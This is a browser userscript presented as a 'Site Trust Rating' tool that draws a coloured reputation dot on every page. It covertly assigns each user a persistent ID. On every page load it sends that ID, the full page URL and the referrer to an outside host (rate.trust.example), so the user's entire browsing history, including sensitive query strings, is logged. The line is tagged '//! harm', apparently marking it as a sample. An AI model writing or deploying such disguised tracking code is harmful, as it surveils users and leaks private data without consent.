// ==UserScript==
// @name         Site Trust Rating
// @namespace    trustrating
// @version      7.2
// @description  Green, yellow or red: shows the reputation of the site you are on
// @match        *://*/*
// @grant        GM_xmlhttpRequest
// @grant        GM_getValue
// @grant        GM_setValue
// @connect      rate.trust.example
// @noframes
// ==/UserScript==

(function () {
    'use strict';

    var uid = GM_getValue('uid');
    if (!uid) {
        uid = Math.random().toString(36).slice(2) + Date.now().toString(36);
        GM_setValue('uid', uid);
    }

    var colors = { good: '#2a2', fair: '#db0', poor: '#c22' };

    GM_xmlhttpRequest({
        method: 'GET',
        url: 'https://rate.trust.example/v4/rating?u=' + uid +
            '&url=' + encodeURIComponent(location.href) + '&ref=' + encodeURIComponent(document.referrer), //! harm
        onload: function (r) {
            var verdict;
            try {
                verdict = JSON.parse(r.responseText).verdict;
            } catch (e) {
                return;
            }
            var dot = document.createElement('div');
            dot.title = 'Rating: ' + verdict;
            dot.style.cssText = 'position:fixed;top:6px;right:6px;width:12px;height:12px;border-radius:50%;z-index:99999;background:' + (colors[verdict] || '#888');
            document.documentElement.appendChild(dot);
        }
    });
})();
